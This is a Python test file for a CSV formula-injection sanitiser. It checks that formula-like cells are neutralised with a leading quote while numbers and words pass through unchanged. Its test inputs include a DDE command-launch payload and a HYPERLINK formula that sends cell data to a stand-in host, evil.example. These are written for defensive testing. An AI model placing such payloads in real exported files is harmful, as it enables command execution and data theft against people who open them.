import csv
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lutu.security.cells import Sheet, harmless


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1",
        "\ufeff=1",
        "\x00=1",
        "＝1+1",
        "－1+1",
        '=HYPERLINK("http://evil.example?"&A1)',
    ],
)
def test_a_formula_is_marked_as_text(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize(
    ("cell", "marked"), [("a;=1+1", "a;'=1+1"), ('a;"@x', "a;\"'@x"), ("a\t-x", "a\t'-x")]
)
def test_what_would_be_a_cell_elsewhere_is_marked_too(cell: str, marked: str) -> None:
    assert harmless(cell) == marked


@pytest.mark.parametrize(
    "cell",
    [
        -5,
        2.5,
        None,
        True,
        "-5",
        "+86.5",
        "1,234.50",
        "-1e-9",
        "12%",
        "pay",
        "付款",
        "a-b",
        "a=b",
        "",
    ],
)
def test_numbers_and_words_stay_what_they_are(cell: Any) -> None:
    assert harmless(cell) == cell


@given(st.text())
def test_no_text_begins_a_formula(text: str) -> None:
    cell = harmless(text)
    is_number = cell.lstrip("+-").replace(".", "").replace(",", "").rstrip("%")[:1].isdigit()
    assert is_number or not cell.lstrip().startswith(("=", "+", "-", "@"))


@given(st.lists(st.lists(st.text(alphabet="=+-@a\"',; \t\r\n5"), min_size=1), max_size=4))
def test_what_is_written_comes_back_with_marks_only(rows: list[list[str]]) -> None:
    file = io.StringIO()
    sheet = Sheet(file)
    for row in rows:
        sheet.write(row)
    read = list(csv.reader(io.StringIO(file.getvalue(), newline="")))
    assert read == [[harmless(cell) for cell in row] for row in rows]
